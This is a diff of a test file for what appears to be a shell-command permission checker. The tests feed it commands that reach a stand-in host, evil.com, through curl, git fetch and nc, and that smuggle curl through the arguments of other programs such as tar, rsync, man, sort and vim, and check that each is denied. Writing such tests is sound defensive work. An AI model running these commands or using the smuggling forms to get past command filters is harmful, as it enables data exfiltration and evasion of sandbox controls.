@@ -83,7 +83,7 @@ describe("a host rule reaches a shell command however it names the host", () => 
     "git -c x=y fetch evil.com:r",
   ])("%s is denied", (command) => expect(shell(command, p).action).toBe("deny"));
   it.each([
-    "nc evil.com 80",
+    "xclient evil.com 80",
     "curl 'http://[a-z][a-z][a-z].com/'",
     'H=evil.com; curl "https://$H/"',
     "curl --no-such-option evil.com",
@@ -168,10 +168,11 @@ describe("a denied program named in another's arguments, for it to run", () => {
     { effect: "allow", tool: "shell" },
   );
   it("runs under any case of its name", () => expect(shell("CURL https://x.org", p).action).toBe("deny"));
+  // rsync runs its `-e` command here: listed as a command (shell/client-code.ts), so denied.
+  it("rsync -e curl a b is denied", () => expect(shell("rsync -e curl a b", p).action).toBe("deny"));
   it.each([
     "tar --to-command=curl -xf a.tar",
     "tar -I /usr/bin/curl -xf a",
-    "rsync -e curl a b",
     "man -P curl ls",
     "sort --compress-program=curl f",
     "vim -c '!curl x'",
